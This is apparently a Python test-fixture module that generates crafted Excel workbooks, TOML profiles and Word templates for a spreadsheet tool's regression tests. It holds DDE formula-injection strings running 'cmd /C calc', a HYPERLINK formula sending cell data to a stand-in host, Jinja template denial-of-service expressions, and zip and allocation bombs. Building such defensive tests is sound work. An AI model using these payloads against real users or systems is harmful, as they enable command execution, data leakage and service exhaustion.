"""The regression corpus of issue 18: well-formed but crafted workbooks and bad side inputs.

Every file is made here, by code, small and deterministic (no binary fixtures). ``build_workbooks(folder)`` writes
every crafted workbook and returns ``{name: path}``; ``build_side_inputs(folder)`` writes the crafted profile files
and Word templates. ``tests/test_crafted.py`` runs each of them through every command.

Each builder starts from the clean *Fjellbygd* example (``write_workbook``) and changes one thing, so the file
passes the plain intake checks and reaches the parsers, the rules and the writers.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from omstill_xl.examples import fjellbygd
from omstill_xl.workbook.build import write_workbook

MACRO_WORKBOOK_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
WORKBOOK_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET_OF = {"Program": "xl/worksheets/sheet2.xml", "Tiltak": "xl/worksheets/sheet4.xml"}

Builder = Callable[[Path], Path]


def _base(folder: Path, data: dict[str, Any] | None = None, name: str = "_base.xlsx") -> Path:
    return write_workbook(data or fjellbygd(), folder / name, overwrite=True)


def _patch(
    src: Path, dst: Path, changes: dict[str, Callable[[bytes], bytes]], add: dict[str, bytes] | None = None
) -> Path:
    """Copy a zip, rewriting some members' bytes and adding others."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename in changes:
                data = changes[info.filename](data)
            zout.writestr(info, data)
        for name, data in (add or {}).items():
            zout.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return dst


def _before_sheet_data_end(extra: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", extra + b"</sheetData>", 1)


def _first_value(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"<v>" + old + b"</v>", b"<v>" + new + b"</v>", 1)


def _with_program(**fields: Any) -> dict[str, Any]:
    data = fjellbygd()
    data["Program"]["fields"].update(fields)
    return data


# --- 1. dimension caps without r= ----------------------------------------------------------------------------------


def implicit_wide_row(folder: Path) -> Path:
    """A row far down whose 20 000 cells carry no r=: calamine would allocate 190 000 × 20 000 cells (abort)."""
    row = b'<row r="190000">' + b"<c><v>1</v></c>" * 20_000 + b"</row>"
    return _patch(_base(folder), folder / "implisitt-bred-rad.xlsx", {SHEET_OF["Tiltak"]: _before_sheet_data_end(row)})


def implicit_rows(folder: Path) -> Path:
    """150 000 rows without r=, then 3 000 cells without r=: an implicit 150 000 × 3 000 area."""
    extra = b"<row/>" * 150_000 + b"<row>" + b"<c/>" * 2_999 + b"<c><v>1</v></c></row>"
    return _patch(_base(folder), folder / "implisitte-rader.xlsx", {SHEET_OF["Tiltak"]: _before_sheet_data_end(extra)})


def prefixed_cells(folder: Path) -> Path:
    """Cells written with a namespace prefix and no r= (``<x:c>``): still cells."""

    def change(xml: bytes) -> bytes:
        xml = xml.replace(
            b"<worksheet ", b'<worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ', 1
        )
        return xml.replace(
            b"</sheetData>", b'<x:row r="199000">' + b"<x:c><x:v>1</x:v></x:c>" * 3_000 + b"</x:row></sheetData>", 1
        )

    return _patch(_base(folder), folder / "prefiks-celler.xlsx", {SHEET_OF["Tiltak"]: change})


def area_at_the_cap(folder: Path) -> Path:
    """Accepted but heavy: an implicit area just under the cell cap (199 000 rows × 25 columns, two cells)."""
    extra = b'<row r="199000">' + b"<c/>" * 24 + b"<c><v>1</v></c></row>"
    return _patch(_base(folder), folder / "stort-omraade.xlsx", {SHEET_OF["Tiltak"]: _before_sheet_data_end(extra)})


def _after_sheet_data(extra: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", b"</sheetData>" + extra, 1)


def merged_whole_sheet(folder: Path) -> Path:
    """One merged range to the end of the sheet: openpyxl makes a MergedCell for each of its 17 billion cells."""
    extra = b'<mergeCells count="1"><mergeCell ref="A200:XFD1048576"/></mergeCells>'
    return _patch(_base(folder), folder / "sammenslaatt.xlsx", {SHEET_OF["Tiltak"]: _after_sheet_data(extra)})


def hyperlink_range(folder: Path) -> Path:
    """A hyperlink on a range to the end of the sheet: openpyxl puts it on every cell of the range."""
    ns = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = b'<hyperlinks><hyperlink ref="A200:XFD1048576" r:id="rIdH1" xmlns:r="' + ns + b'"/></hyperlinks>'
    rel = (
        b'<Relationship Id="rIdH1" Type="' + ns + b'/hyperlink" Target="http://example.invalid/" '
        b'TargetMode="External"/></Relationships>'
    )
    return _patch(
        _base(folder),
        folder / "lenke-omraade.xlsx",
        {
            SHEET_OF["Tiltak"]: _after_sheet_data(link),
            "xl/worksheets/_rels/sheet4.xml.rels": lambda x: x.replace(b"</Relationships>", rel),
        },
    )


def comment_on_range(folder: Path) -> Path:
    """A comment whose reference is a range to the end of the sheet (openpyxl would build every cell)."""
    comments = (
        b'<?xml version="1.0" encoding="UTF-8"?><comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main"><authors><author>x</author></authors><commentList><comment ref="A200:XFD1048576" authorId="0">'
        b"<text><t>x</t></text></comment></commentList></comments>"
    )
    rel = (
        b'<Relationship Id="rIdC1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'comments" Target="../comments1.xml"/></Relationships>'
    )

    def ct(xml: bytes) -> bytes:
        return xml.replace(
            b"</Types>",
            b'<Override PartName="/xl/comments1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            b'spreadsheetml.comments+xml"/></Types>',
        )

    return _patch(
        _base(folder),
        folder / "merknad-omraade.xlsx",
        {
            "xl/worksheets/_rels/sheet4.xml.rels": lambda x: x.replace(b"</Relationships>", rel),
            "[Content_Types].xml": ct,
        },
        {"xl/comments1.xml": comments},
    )


# --- 2. malformed text -----------------------------------------------------------------------------------------------


def control_character(folder: Path) -> Path:
    """A raw control character (U+0001) in a sheet's XML: not well-formed XML."""

    def change(xml: bytes) -> bytes:
        return xml.replace(b"<sheetPr>", b'<sheetPr codeName="a\x01b">', 1)

    return _patch(_base(folder), folder / "kontrolltegn.xlsx", {SHEET_OF["Program"]: change})


def nul_in_programme_name(folder: Path) -> Path:
    """A programme name holding ``_x0000_`` (Excel's escape for NUL), which readers decode to a NUL character."""
    return _base(folder, _with_program(programnavn="Omstilling _x0000_Fjellbygd\x0b"), "nul-i-navnet.xlsx")


# --- 6. long names --------------------------------------------------------------------------------------------------


def long_programme_name(folder: Path) -> Path:
    """A 300 000-character programme name (output file names, Word and Excel property limits)."""
    return _base(folder, _with_program(programnavn="Omstilling " + "Æ" * 300_000), "langt-navn.xlsx")


def name_over_word_limit(folder: Path) -> Path:
    """A 300-character programme name: over Word's 255-character limit for document properties."""
    return _base(folder, _with_program(programnavn="Omstilling " + "Fjellbygd " * 29), "navn-300.xlsx")


# --- 7. NaN and infinities --------------------------------------------------------------------------------------------


def nan_amount(folder: Path) -> Path:
    """A budget amount stored as the number NaN."""
    return _patch(_base(folder), folder / "nan-belop.xlsx", {SHEET_OF["Tiltak"]: _first_value(b"600000", b"NaN")})


def infinite_amount(folder: Path) -> Path:
    """A budget amount that overflows to infinity (1e309)."""
    return _patch(
        _base(folder), folder / "uendelig-belop.xlsx", {SHEET_OF["Tiltak"]: _first_value(b"600000", b"1e309")}
    )


def infinite_year(folder: Path) -> Path:
    """The plan year as -infinity."""

    def change(xml: bytes) -> bytes:
        return xml.replace(b"<v>2026</v>", b"<v>-INF</v>")

    return _patch(_base(folder), folder / "uendelig-aar.xlsx", {SHEET_OF["Program"]: change})


# --- 5. an Avvik sheet read back --------------------------------------------------------------------------------------


def _with_avvik(folder: Path, name: str, rows: list[tuple[str, ...]]) -> Path:
    import openpyxl

    from omstill_xl.avvik import AVVIK, HEADERS

    src = _base(folder)
    wb = openpyxl.load_workbook(src)
    ws = wb.create_sheet(AVVIK, 0)
    ws.append(list(HEADERS))
    for row in rows:
        ws.append(list(row))
    out = folder / name
    wb.save(out)
    return out


def avvik_whole_sheet(folder: Path) -> Path:
    return _with_avvik(
        folder, "avvik-hele-arket.xlsx", [("feil", "OX-F001", "Tiltak", "A1:XFD1048576", "x", "", "", "", "")]
    )


def avvik_user_range(folder: Path) -> Path:
    return _with_avvik(folder, "avvik-omraade.xlsx", [("feil", "OX-F001", "Tiltak", "U6:U14", "x", "", "", "", "")])


def avvik_bad_colour(folder: Path) -> Path:
    return _with_avvik(
        folder,
        "avvik-farge.xlsx",
        [
            ("feil", "OX-F001", "Tiltak", "B6", "x", "", "", "", "ikke en farge"),
            ("feil", "OX-F001", "Tiltak", "ZZZZ99999999", "x", "", "", "", "FFFFFF"),
            ("feil", "OX-F001", "Finnes ikke", "B6", "x", "", "", "", "FFFFFF"),
        ],
    )


# --- 11. heavy but accepted ---------------------------------------------------------------------------------------------


def _styles_with(entries: int, rnd: random.Random) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        xfs = b"".join(
            b'<xf numFmtId="%d" fontId="0" fillId="0" borderId="0" xfId="0"/>' % rnd.randrange(200)
            for _ in range(entries)
        )
        return re.sub(rb"<cellXfs count=\"\d+\">", b'<cellXfs count="%d">' % entries + xfs, xml, count=1)

    return change


def styles_flood(folder: Path) -> Path:
    """A styles part with 150 000 cell formats (Excel's own limit is 64 000)."""
    return _patch(
        _base(folder), folder / "mange-stiler.xlsx", {"xl/styles.xml": _styles_with(150_000, random.Random(18))}
    )


def shared_strings_flood(folder: Path) -> Path:
    """A shared-strings part with 400 000 entries that no cell uses."""
    sst = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"".join(b"<si><t>%x</t></si>" % (i * 7919) for i in range(400_000))
        + b"</sst>"
    )
    rels = b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'

    def ct(xml: bytes) -> bytes:
        return xml.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )

    return _patch(
        _base(folder),
        folder / "mange-tekster.xlsx",
        {"xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>", rels), "[Content_Types].xml": ct},
        {"xl/sharedStrings.xml": sst},
    )


# --- 12. macros and formulas in text -----------------------------------------------------------------------------------


def xlsm_workbook(folder: Path) -> Path:
    """Our workbook saved as a macro-enabled .xlsm."""

    def ct(xml: bytes) -> bytes:
        return xml.replace(WORKBOOK_CT.encode(), MACRO_WORKBOOK_CT.encode()).replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        )

    rel = (
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>'
    )
    return _patch(
        _base(folder),
        folder / "makro.xlsm",
        {"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>", rel)},
        {"xl/vbaProject.bin": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(range(256)) * 2},
    )


def formula_text(folder: Path) -> Path:
    """Formulas typed into text cells: DDE and an external HYPERLINK, as text a spreadsheet would run."""
    data = fjellbygd()
    data["Program"]["fields"]["organisasjon"] = "=cmd|' /C calc'!A0"
    data["Program"]["fields"]["programleder"] = '=HYPERLINK("http://example.invalid/x?"&A1,"Klikk")'
    data["Tiltak"]["rows"][1]["navn"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return _base(folder, data, "formel-tekst.xlsx")


WORKBOOKS: dict[str, Builder] = {
    "implicit-wide-row": implicit_wide_row,
    "implicit-rows": implicit_rows,
    "prefixed-cells": prefixed_cells,
    "area-at-the-cap": area_at_the_cap,
    "merged-whole-sheet": merged_whole_sheet,
    "hyperlink-range": hyperlink_range,
    "comment-on-range": comment_on_range,
    "control-character": control_character,
    "nul-in-name": nul_in_programme_name,
    "long-name": long_programme_name,
    "name-over-255": name_over_word_limit,
    "nan-amount": nan_amount,
    "infinite-amount": infinite_amount,
    "infinite-year": infinite_year,
    "avvik-whole-sheet": avvik_whole_sheet,
    "avvik-user-range": avvik_user_range,
    "avvik-bad-colour": avvik_bad_colour,
    "styles-flood": styles_flood,
    "shared-strings-flood": shared_strings_flood,
    "xlsm": xlsm_workbook,
    "formula-text": formula_text,
}


def build_workbooks(folder: Path) -> dict[str, Path]:
    """Every crafted workbook in ``folder`` (made fresh; ``_base.xlsx`` is removed afterwards)."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {name: build(folder) for name, build in WORKBOOKS.items()}
    (folder / "_base.xlsx").unlink(missing_ok=True)
    return paths


# --- side inputs: profile files and Word templates ------------------------------------------------------------------

PROFILES: dict[str, str] = {
    "profile-nan": "[standard]\nmaks_fylkesandel = nan\n",
    "profile-inf": "[standard]\neur_nok = inf\n",
    "profile-negative": "[standard]\nadmin_terskel = -1\n",
    "profile-deep": "[standard]\nx = " + "[" * 5_000 + "]" * 5_000 + "\n",
    "profile-deep-table": "[standard]\n" + "a = {" * 3_000 + "}" * 3_000 + "\n",
    "profile-not-table": "standard = 3\n",
    "profile-latin1": "# Bod\xf8\n[standard]\neur_nok = 11.5\n",
}

# The lint refuses names it does not know (range, namespace, macros), so these loop over what a template has:
# strings and the context's lists.
TEMPLATES: dict[str, str] = {
    "template-string-multiply": "{{ 'x' * 10**9 }}",
    "template-list-multiply": "{{ ([1] * 10**9)|length }}",
    "template-nested-loops": "{% for a in 'x' * 90000 %}{% for b in 'y' * 90000 %}{% endfor %}{% endfor %}",
    "template-output": "{% for a in 'x' * 3000 %}{% for b in 'y' * 3000 %}xxxxxxxxxx{% endfor %}{% endfor %}",
    "template-power": "{{ 7 ** 100000000 }}",
    "template-format-width": "{{ '%999999999s' % 'x' }}",
    "template-method-width": "{{ 'x'.ljust(999999999) }}",
    "template-filter-width": "{{ 'x'|center(999999999) }}",
    "template-concat": "{{ (tittel * 150000) ~ (tittel * 150000) ~ (tittel * 150000) }}",
    "template-replace": "{{ ('x' * 100000)|replace('x', 'y' * 1000) }}",
    "template-batch": "{{ ([1, 2]|batch(10**9, 0)|list)|length }}",
    "template-slice": "{{ ([1, 2]|slice(10**8)|list)|length }}",
    "template-loop-context": "{% for io in innsatsomrader %}{% for a in 'x' * 900000 %}{{ io.navn }}{% endfor %}"
    "{% endfor %}",
}


def template_docx(body: str) -> bytes:
    """A Word document whose only paragraph is ``body`` (a Jinja tag for docxtpl)."""
    import docx

    doc = docx.Document()
    doc.add_paragraph(body)
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def huge_template(path: Path) -> Path:
    """A Word template whose document part unpacks to 60 MB of empty paragraphs (the file itself is small)."""
    data = template_docx("{{ tittel }}")
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info.filename)
            if info.filename == "word/document.xml":
                body = body.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 10_000_000, 1)
            zout.writestr(info, body)
    return path


def build_side_inputs(folder: Path) -> dict[str, Path]:
    """Every crafted profile file (.toml) and Word template (.docx) in ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for name, text in PROFILES.items():
        path = folder / f"{name}.toml"
        path.write_bytes(text.encode("latin-1") if name.endswith("latin1") else text.encode("utf-8"))
        out[name] = path
    for name, body in TEMPLATES.items():
        path = folder / f"{name}.docx"
        path.write_bytes(template_docx(body))
        out[name] = path
    out["template-huge-part"] = huge_template(folder / "template-huge-part.docx")
    return out


def latin1_name(folder: Path, source: Path) -> Path:
    """A copy of ``source`` whose file name is Latin-1 bytes (``Bodø`` from an old archive), not UTF-8."""
    import os

    target = os.path.join(os.fsencode(folder), b"Bod\xf8-2026.xlsx")
    with open(target, "wb") as fh:
        fh.write(Path(source).read_bytes())
    return Path(os.fsdecode(target))
